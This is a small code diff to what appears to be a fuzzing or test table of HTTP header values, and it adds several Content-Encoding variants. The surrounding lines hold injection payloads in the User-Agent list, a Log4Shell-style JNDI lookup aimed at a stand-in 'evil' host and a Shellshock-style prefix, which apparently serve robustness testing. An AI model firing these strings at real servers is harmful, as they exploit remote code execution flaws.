@@ -50,7 +50,7 @@ HEADERS: dict[str, list[str]] = {
     "Origin": ["null", "\xff", "http://["],
     "Referer": ["\xff", "http://[", "https://" + "x" * 6000],
     "User-Agent": ["\xff" * 99, "<script>", "${jndi:ldap://evil}", "() { :; }; echo", ""],
-    "Content-Encoding": ["gzip", "br", "\xff"],
+    "Content-Encoding": ["gzip", "br", "deflate", "gzip, gzip", "utf-8", "identity", "hex", ",", "\xff"],
     "Content-Language": ["\xff"],
     "Upgrade": ["h2c", "websocket"],
     "X_Underscore": ["1"],
